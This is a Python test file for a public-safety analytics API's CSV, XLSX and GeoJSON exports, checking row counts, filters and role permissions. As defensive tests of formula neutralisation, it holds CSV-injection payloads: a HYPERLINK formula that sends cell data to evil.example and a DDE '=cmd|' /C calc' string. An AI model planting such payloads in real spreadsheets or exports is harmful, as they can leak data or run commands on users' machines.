"""Table exports (issue 15 item 2): incidents, cameras, audit trail, hotspot cells and the camera
planner's chosen sites as CSV (UTF-8 BOM, `;`), XLSX and GeoJSON; every filtered row, the same
count as the JSON total, formula cells neutralised (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from safecities.domain import Role

#: Cells a spreadsheet would run as formulas, and what the export must turn them into.
FORMULAS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
}
# Anderlecht (21001) and Brussels (21004): real points inside each municipality.
PLACES = [("21001", 50.8386, 4.3096), ("21004", 50.8466, 4.3528)]


def _csv_rows(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 BOM"
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0].count(";") >= 2, "not ;-separated"
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def _xlsx_rows(body: bytes) -> list[dict]:
    ws = load_workbook(io.BytesIO(body)).active
    rows = list(ws.iter_rows())
    assert all(c.data_type != "f" for r in rows for c in r), "a cell is a formula"
    head = [c.value for c in rows[0]]
    return [dict(zip(head, (c.value for c in r), strict=True)) for r in rows[1:]]


@pytest.fixture(scope="module")
def incidents(api_engine, tmp_path_factory):
    """30 incidents over 2025 in two municipalities, four of them with a formula as summary."""
    from safecities.register.service import import_incidents

    path = tmp_path_factory.mktemp("exp") / "incidents.csv"
    summaries = list(FORMULAS) + [""] * 26
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "occurred_at", "lat", "lon", "kind", "injured", "killed", "summary"])
        for k in range(30):
            _, lat, lon = PLACES[k % 2]
            month, day = 1 + k % 12, 1 + k % 28
            kind = "shooting" if k % 3 else "shots_fired"
            w.writerow([f"x-{k}", f"2025-{month:02d}-{day:02d}T22:{k:02d}:00+01:00",
                        lat + k * 1e-4, lon, kind, k % 2, 0, summaries[k]])  # fmt: skip
    import_incidents(api_engine, path, actor="test")
    return path


def test_incident_exports_every_filtered_row_neutralised(client, tokens, auth, incidents):
    h = auth(tokens[Role.ANALYST])
    q = {"kind": "shooting", "since": "2025-01-01", "until": "2026-01-01"}
    page = client.get("/api/incidents", headers=h, params=q | {"limit": 3}).json()
    total = page["total"]
    assert 3 < total < 30 and len(page["incidents"]) == 3
    r = client.get("/api/incidents", headers=h, params=q | {"format": "csv", "limit": 3})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert 'filename="incidents.csv"' in r.headers["content-disposition"]
    rows = _csv_rows(r.content)
    assert len(rows) == total and {x["kind"] for x in rows} == {"shooting"}
    ids = {x["source_id"] for x in rows}
    x = _xlsx_rows(client.get("/api/incidents", headers=h, params=q | {"format": "xlsx"}).content)
    assert {r["source_id"] for r in x} == ids and len(x) == total
    geo = client.get("/api/incidents", headers=h, params=q | {"format": "geojson"}).json()
    assert len(geo["features"]) == total
    assert {f["properties"]["source_id"] for f in geo["features"]} == ids
    # every formula summary comes out neutralised, whichever kind it was filed under
    allr = _csv_rows(client.get("/api/incidents", headers=h, params={"format": "csv"}).content)
    allx = _xlsx_rows(client.get("/api/incidents", headers=h, params={"format": "xlsx"}).content)
    assert len(allr) == len(allx) == client.get("/api/incidents", headers=h).json()["total"]
    for rows in (allr, allx):
        got = {r["summary"] for r in rows if r["summary"]}
        assert got == set(FORMULAS.values())
    # numbers stay numbers in XLSX (a count is not text)
    assert all(isinstance(r["injured"], int) for r in allx)


def test_incident_filters_and_paging(client, tokens, auth, incidents):
    h = auth(tokens[Role.ANALYST])
    q = {"municipality": "21004"}
    total = client.get("/api/incidents", headers=h, params=q).json()["total"]
    seen = []
    for offset in range(0, total + 4, 4):
        p = client.get("/api/incidents", headers=h, params=q | {"limit": 4, "offset": offset})
        seen += [i["id"] for i in p.json()["incidents"]]
    assert len(seen) == len(set(seen)) == total
    rows = _csv_rows(client.get("/api/incidents", headers=h, params=q | {"format": "csv"}).content)
    assert {r["municipality_id"] for r in rows} == {"21004"} and len(rows) == total
    # `since` is inclusive, `until` exclusive, both Brussels days (x-2: 3 March 22:02 CET)
    one = {"since": "2025-03-03", "until": "2025-03-04"}
    day = client.get("/api/incidents", headers=h, params=one | {"format": "csv"}).content
    assert [r["source_id"] for r in _csv_rows(day)] == ["x-2"]
    empty = client.get("/api/incidents", headers=h, params={"since": "2030-01-01", "format": "csv"})
    assert _csv_rows(empty.content) == [] and empty.content.count(b"\r\n") == 1
    late = {"since": "2025-03-04", "until": "2025-03-05", "format": "csv"}
    assert "x-2" not in {r["source_id"] for r in _csv_rows(client.get(
        "/api/incidents", headers=h, params=late).content)}  # fmt: skip


def test_incident_export_refused_to_roles_without_the_list(client, tokens, auth):
    r = client.get("/api/incidents", headers=auth(tokens[Role.DEFENCE_LIAISON]),
                   params={"format": "csv"})  # fmt: skip
    assert r.status_code == 403
    r = client.get("/api/incidents", headers=auth(tokens[Role.ANALYST]), params={"format": "pdf"})
    assert r.status_code == 422


def test_camera_exports_respect_the_operator_municipality(client, tokens, auth):
    admin = auth(tokens[Role.ADMIN])
    for k, formula in enumerate(FORMULAS):
        muni, lat, lon = PLACES[k % 2]
        r = client.post("/api/cameras", headers=admin, params={"municipality": muni},
                        json={"lat": lat + k * 1e-4, "lon": lon, "purpose": formula})  # fmt: skip
        assert r.status_code == 201, r.text
    r = client.get("/api/cameras", headers=admin, params={"limit": 1, "offset": 1})
    assert r.headers["x-total-count"] == "4" and len(r.json()) == 1
    rows = _csv_rows(client.get("/api/cameras", headers=admin, params={"format": "csv"}).content)
    assert len(rows) == 4 and {r["purpose"] for r in rows} == set(FORMULAS.values())
    x = _xlsx_rows(client.get("/api/cameras", headers=admin, params={"format": "xlsx"}).content)
    assert {r["purpose"] for r in x} == set(FORMULAS.values())
    op = auth(tokens[Role.CAMERA_OPERATOR])  # bound to 21001
    for fmt in ("csv", "xlsx", "geojson"):
        r = client.get("/api/cameras", headers=op, params={"format": fmt})
        assert r.status_code == 200
    own = _csv_rows(client.get("/api/cameras", headers=op, params={"format": "csv"}).content)
    assert len(own) == 2 and {r["municipality_id"] for r in own} == {"21001"}
    geo = client.get("/api/cameras", headers=op, params={"format": "geojson"}).json()
    assert {f["properties"]["municipality_id"] for f in geo["features"]} == {"21001"}
    r = client.get("/api/cameras", headers=op, params={"format": "csv", "municipality": "21004"})
    assert r.status_code == 403
    st = client.get("/api/cameras", headers=admin, params={"status": "removed", "format": "csv"})
    assert _csv_rows(st.content) == []


def test_audit_export_filtered_complete_and_auditors_only(client, tokens, auth, api_engine):
    from safecities.store import audit
    from safecities.store.db import session_scope

    with session_scope(api_engine) as s:
        audit.record(s, actor="=cmd|' /C calc'!A0", action="test.formula", entity="test")
    h = auth(tokens[Role.AUDITOR])
    total = client.get("/api/audit", headers=h, params={"limit": 2}).json()["total"]
    rows = _csv_rows(client.get("/api/audit", headers=h, params={"format": "csv"}).content)
    assert len(rows) == total > 2
    assert [int(r["id"]) for r in rows] == sorted((int(r["id"]) for r in rows), reverse=True)
    f = {"action": "test.formula"}
    x = _xlsx_rows(client.get("/api/audit", headers=h, params=f | {"format": "xlsx"}).content)
    assert [r["actor"] for r in x] == ["'=cmd|' /C calc'!A0"]
    q = {"since": "2000-01-01", "until": "2000-01-02"}
    assert client.get("/api/audit", headers=h, params=q).json()["total"] == 0
    assert (
        _csv_rows(client.get("/api/audit", headers=h, params=q | {"format": "csv"}).content) == []
    )
    r = client.get("/api/audit", headers=auth(tokens[Role.ANALYST]), params={"format": "csv"})
    assert r.status_code == 403
    assert client.get("/api/audit", headers=h, params={"format": "geojson"}).status_code == 422


def test_hotspot_cells_export(client, tokens, auth, incidents):
    h = auth(tokens[Role.ANALYST])
    q = {"method": "naive", "horizon": "7d", "top": 20}
    cells = client.get("/api/hotspots/forecast", headers=h, params=q).json()["cells"]
    assert cells["features"]
    rows = _csv_rows(
        client.get("/api/hotspots/forecast", headers=h, params=q | {"format": "csv"}).content
    )
    assert len(rows) == len(cells["features"]) and {"lat", "lon", "cell_id"} <= set(rows[0])
    geo = client.get("/api/hotspots/forecast", headers=h, params=q | {"format": "geojson"})
    assert geo.json() == cells
    det = client.get("/api/hotspots/detect", headers=h, params={"geojson": True}).json()
    x = client.get("/api/hotspots/detect", headers=h, params={"format": "xlsx"})
    assert len(_xlsx_rows(x.content)) == len(det["geojson"]["features"]) > 0


def test_camera_planner_chosen_sites_export(client, tokens, auth):
    planner = auth(tokens[Role.PLANNER])
    sites = [
        {"site_id": f"s{k}", "lat": 50.84 + k * 1e-3, "lon": 4.35, "cost": 10000} for k in range(4)
    ]
    demand = [
        {"demand_id": f"d{k}", "lat": 50.84 + k * 1e-3, "lon": 4.3502, "weight": 1 + k}
        for k in range(4)
    ]
    body = {"budget": 20000, "radius": 60, "curve_steps": 0, "time_limit": 1,
            "candidates": sites, "demand": demand}  # fmt: skip
    report = client.post("/api/cameras/plan", headers=planner, json=body).json()
    chosen = [s["site_id"] for s in report["chosen"]]
    assert len(chosen) == 2
    r = client.post("/api/cameras/plan", headers=planner, json=body, params={"format": "csv"})
    assert 'filename="chosen-sites.csv"' in r.headers["content-disposition"]
    assert [x["site_id"] for x in _csv_rows(r.content)] == chosen
    r = client.post("/api/cameras/plan", headers=planner, json=body, params={"format": "xlsx"})
    assert [x["site_id"] for x in _xlsx_rows(r.content)] == chosen
    r = client.post("/api/cameras/plan", headers=planner, json=body, params={"format": "geojson"})
    assert [f["properties"]["site_id"] for f in r.json()["features"]] == chosen
    r = client.post("/api/cameras/plan", headers=auth(tokens[Role.ANALYST]), json=body,
                    params={"format": "csv"})  # fmt: skip
    assert r.status_code == 403
